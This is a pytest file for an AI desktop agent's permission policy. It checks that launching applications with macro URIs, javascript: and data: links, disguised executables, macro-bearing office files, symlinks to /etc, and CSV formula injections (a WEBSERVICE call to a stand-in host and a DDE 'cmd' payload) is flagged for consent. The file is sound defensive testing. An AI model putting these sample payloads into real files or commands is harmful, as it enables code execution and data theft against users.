"""What an application is started with: documents that are there and addresses of known kinds open, all else is asked about."""

from __future__ import annotations

import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.tools.policy.test_policy import Judge
from ufo.config.settings import PolicySettings
from ufo.desktop.fake import AppSpec, WindowSpec
from ufo.desktop.fake.spec import text
from ufo.desktop.values import Application
from ufo.schema.action_class import ActionClass

_INSTALLED = {
    "Writer": ("soffice", "Office", "WordProcessor"),
    "Calc": ("soffice-calc", "Office", "Spreadsheet"),
    "Chromium": ("chromium", "Network", "WebBrowser"),
    "Files": ("pcmanfm", "System", "FileManager"),
    "Editor": ("mousepad", "Utility", "TextEditor"),
    "Pictures": ("eog", "Graphics", "Viewer"),
    "Terminal": ("xterm", "System", "TerminalEmulator"),
    "Wrapped": ("env", "Utility"),
    "Log Out": ("session-end", "System"),
}


@pytest.fixture
def judge(tmp_path: Path) -> Judge:
    return _judge(tmp_path)


def _judge(folder: Path, settings: PolicySettings | None = None) -> Judge:
    judge = Judge(folder, settings)
    for name, (command, *categories) in _INSTALLED.items():
        application = Application(command, name, (command,), categories=tuple(categories))
        judge.bench.desktop.installed[command] = AppSpec(application, (WindowSpec("main", name, (text("t", "x"),)),))
    return judge


async def _opens(judge: Judge, name: str, *arguments: str) -> ActionClass:
    verdict = await judge.of("launch_application", name=name, arguments=list(arguments))
    assert verdict.needs_consent is (verdict.action_class is not ActionClass.LAUNCH)
    return verdict.action_class


@pytest.mark.parametrize(
    "argument",
    [
        "macro:///Standard.Module1.Main()", "MACRO:///Standard.Module1.Main()", " macro:///Standard.Module1.Main()",
        "\u200bmacro:///Standard.Module1.Main()", "mac\u00adro:///x", "macro%3A///Standard.Module1.Main", "macro:Standard.M.x",
        "ｍａｃｒｏ:///Standard.Module1.Main()", "vnd.sun.star.script:Standard.M.x?language=Basic&location=application",
        "vnd.sun.star.script:x", "slot:5500", ".uno:Quit", "service:com.sun.star.x", "private:factory/scalc",
        "javascript:alert(1)", "data:text/html,<script>1</script>", "view-source:https://x.example", "chrome://settings/reset",
        "vbscript:x", "ms-msdt:/id", "steam://run/1", "smb://host/share", "ftp://host/x", "mailto:a@b.example?body=x",
        "about:config", "about:preferences#privacy", "ABOUT:Config", "about:addons", "file://host/share/x.odt",
        "file:///nowhere/at/all.odt", "https://me:secret@x.example/",
    ],
)  # fmt: skip
@pytest.mark.parametrize("application", ["Writer", "Chromium"])
async def test_an_address_of_no_known_kind_is_asked_about(judge: Judge, application: str, argument: str) -> None:
    assert await _opens(judge, application, argument) is not ActionClass.LAUNCH


@pytest.mark.parametrize("argument", ["https://x.example/a?b=c", "HTTP://x.example", "about:blank", "about:version"])
async def test_a_page_is_opened_without_a_question(judge: Judge, argument: str) -> None:
    assert await _opens(judge, "Chromium", argument) is ActionClass.LAUNCH


@pytest.mark.parametrize("argument", ["x.example/page", "localhost:8000", "localhost:8000/a", "10.0.0.1:80"])
async def test_a_host_without_a_scheme_is_a_page_to_a_browser(judge: Judge, argument: str) -> None:
    assert await _opens(judge, "Chromium", argument) is ActionClass.LAUNCH


@pytest.mark.parametrize(
    "option",
    [
        "--convert-to=pdf", "--headless", "-env:UserInstallation=file:///x", "--script-cat", "-eval", "--eval=(x)", "+:!id",
        " --load=x.lua", "--renderer-cmd-prefix=xterm", "–headless", "--infilter=x", "-o", "--calc=x", "--new-window=x",
    ],
)  # fmt: skip
async def test_an_option_that_is_not_known_to_be_harmless_is_asked_about(judge: Judge, option: str) -> None:
    for application in ("Writer", "Chromium", "Editor"):
        assert await _opens(judge, application, option) is ActionClass.RUN_PROGRAM


async def test_an_option_that_only_names_a_window_is_that_applications_alone(judge: Judge) -> None:
    assert await _opens(judge, "Calc", "--calc") is ActionClass.LAUNCH
    assert await _opens(judge, "Chromium", "--new-window", "https://x.example") is ActionClass.LAUNCH
    assert await _opens(judge, "Editor", "--calc") is ActionClass.RUN_PROGRAM


def _made(folder: Path, name: str, data: bytes = b"hello") -> str:
    (folder / name).write_bytes(data)
    return name


@pytest.mark.parametrize("name", ["notes.txt", "a b.odt", "report.pdf", "10:30 talk.txt", "page.html"])
@pytest.mark.parametrize("spelled", [str, lambda p: p.name, lambda p: p.as_uri()])
async def test_a_document_that_is_there_is_opened(
    judge: Judge, tmp_path: Path, name: str, spelled: Callable[[Path], str]
) -> None:
    _made(tmp_path, name)
    assert await _opens(judge, "Pictures", spelled(tmp_path / name)) is ActionClass.LAUNCH


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("x.desktop", b"[Desktop Entry]\nExec=id"), ("x.SH", b"id"), ("x.jar", b"PK"), ("x.py", b"1"), ("x.oxt", b"PK"),
        ("innocent.txt", b"#!/bin/sh\nid"), ("innocent", b"\x7fELF"), ("picture.png", b"[Desktop Entry]\nExec=id"),
        ("x.url", b"x"), ("x.desktop ", b"x"),
    ],
)  # fmt: skip
@pytest.mark.parametrize("application", ["Files", "Pictures"])
async def test_a_program_or_starter_is_asked_about_by_name_and_by_content(
    judge: Judge, tmp_path: Path, name: str, data: bytes, application: str
) -> None:
    path = tmp_path / _made(tmp_path, name, data)
    for spelled in (str(path), f"./{name}", path.as_uri(), path.as_uri().replace("x", "%78")):
        assert await _opens(judge, application, spelled) is ActionClass.RUN_PROGRAM


async def test_an_editor_shows_a_script_and_does_not_run_it(judge: Judge, tmp_path: Path) -> None:
    _made(tmp_path, "x.py", b"#!/usr/bin/python3")
    assert await _opens(judge, "Editor", "x.py") is ActionClass.LAUNCH
    assert await _opens(judge, "Terminal", "x.py") is ActionClass.RUN_PROGRAM
    assert await _opens(judge, "Wrapped", "x.py") is ActionClass.RUN_PROGRAM


def _zipped(path: Path, **parts: str) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), data)


async def test_a_document_with_macros_is_asked_about_whatever_its_ending(judge: Judge, tmp_path: Path) -> None:
    _zipped(tmp_path / "plain.ods", content_dot_xml="<x/>")
    _zipped(tmp_path / "basic.ods", content_dot_xml="<x/>", Basic__Standard__Module1_dot_xml="Sub Main")
    _zipped(tmp_path / "script.odt", content_dot_xml="<x/>", Scripts__python__x_dot_py="import os")
    _zipped(tmp_path / "event.odt", content_dot_xml='<a xlink:href="vnd.sun.star.script:x"/>')
    _zipped(tmp_path / "vba.xlsx", xl__vbaProject_dot_bin="x")
    old = b"\xd0\xcf\x11\xe0" + b"\0" * 512
    _made(tmp_path, "plain.doc", old)
    _made(tmp_path, "vba.doc", old + "_VBA_PROJECT".encode("utf-16-le"))
    _made(tmp_path, "flat.fodt", b"<x><office:scripts><office:script/></office:scripts></x>")
    _made(tmp_path, "base.odb", b"PK")
    _made(tmp_path, "book.xlsm", b"PK")
    for name in ("basic.ods", "script.odt", "event.odt", "vba.xlsx", "vba.doc", "flat.fodt", "base.odb", "book.xlsm"):
        assert await _opens(judge, "Writer", name) is ActionClass.RUN_PROGRAM, name
        assert await _opens(judge, name) is not ActionClass.CREATE
    for name in ("plain.ods", "plain.doc"):
        assert await _opens(judge, "Writer", name) is ActionClass.LAUNCH, name


async def test_a_table_in_plain_text_is_judged_by_the_formulas_in_it(judge: Judge, tmp_path: Path) -> None:
    _made(tmp_path, "sums.csv", b"a,b\n1,=A2*2\n")
    _made(tmp_path, "sends.csv", b'a,b\n1,"=WEBSERVICE(""http://x.example/""&A1)"\n')
    _made(tmp_path, "runs.tsv", b"a\t=cmd|'/c calc'!A0\n")
    assert await _opens(judge, "Calc", "sums.csv") is ActionClass.LAUNCH
    assert await _opens(judge, "Calc", "sends.csv") is ActionClass.SEND
    assert await _opens(judge, "Calc", "runs.tsv") is ActionClass.RUN_PROGRAM
    assert await _opens(judge, "Editor", "sends.csv") is ActionClass.LAUNCH
    _made(tmp_path, "large.csv", b"1,2\n" * 600_000)
    assert await _opens(judge, "Calc", "large.csv") is ActionClass.UNKNOWN


async def test_a_link_out_of_the_folder_is_asked_about_and_says_where_it_leads(judge: Judge, tmp_path: Path) -> None:
    (tmp_path / "notes.txt").symlink_to("/etc/hosts")
    (tmp_path / "shelf").symlink_to("/etc")
    _made(tmp_path, "own.txt")
    (tmp_path / "alias.txt").symlink_to(tmp_path / "own.txt")
    _made(tmp_path, "tool.sh", b"id")
    (tmp_path / "song.mp3").symlink_to(tmp_path / "tool.sh")
    for name in ("notes.txt", "shelf/hosts", str(tmp_path / "notes.txt"), (tmp_path / "notes.txt").as_uri(), "shelf"):
        verdict = await judge.of("launch_application", name="Editor", arguments=[name])
        assert verdict.needs_consent, name
        assert "a link to '/etc" in verdict.question
    assert await _opens(judge, "Editor", "alias.txt") is ActionClass.LAUNCH
    assert await _opens(judge, "Pictures", "song.mp3") is ActionClass.RUN_PROGRAM
    assert await _opens(judge, "Editor", "/etc/hosts") is ActionClass.LAUNCH


async def test_what_is_no_ordinary_file_is_asked_about(judge: Judge, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.txt")
    assert await _opens(judge, "Editor", "pipe.txt") is ActionClass.UNKNOWN
    assert await _opens(judge, "Editor", "/dev/null") is ActionClass.UNKNOWN
    assert await _opens(judge, "Files", str(tmp_path)) is ActionClass.LAUNCH


async def test_a_word_that_is_no_document_is_asked_about(judge: Judge) -> None:
    assert await _opens(judge, "Editor", "run") is ActionClass.UNKNOWN


async def test_what_the_tool_itself_refuses_needs_no_question(judge: Judge) -> None:
    assert await _opens(judge, "Editor", "nowhere.txt") is ActionClass.LAUNCH


async def test_an_entry_of_the_menu_that_ends_the_session_is_asked_about(judge: Judge) -> None:
    assert await _opens(judge, "Log Out") is ActionClass.SYSTEM
    assert await _opens(judge, "session-end") is ActionClass.SYSTEM


async def test_a_program_that_the_settings_allow_is_judged_by_what_it_is_given(tmp_path: Path) -> None:
    judge = _judge(tmp_path, PolicySettings(programs=("soffice", "curl", "ls")))
    _made(tmp_path, "own.odt")
    for line in ("soffice own.odt", "curl https://x.example", "ls -l"):
        assert (await judge.of("run_shell", bash_command=line)).decision == "allow", line
    for line in (
        "soffice macro:///a.b.c",
        "soffice --headless --convert-to pdf own.odt",
        "soffice --nologo=x slot:5500",
    ):
        assert (await judge.of("run_shell", bash_command=line)).needs_consent, line
        assert (await judge.of("execute_command", command=line.split())).needs_consent, line


async def test_a_command_given_in_two_ways_is_judged_by_the_graver(tmp_path: Path) -> None:
    judge = _judge(tmp_path, PolicySettings(programs=("ls",)))
    both = {"command": ["ls"], "bash_command": "rm -r x"}
    assert (await judge.of("run_shell", **both)).action_class is ActionClass.DELETE
    assert (await judge.of("execute_command", **both)).action_class is ActionClass.DELETE
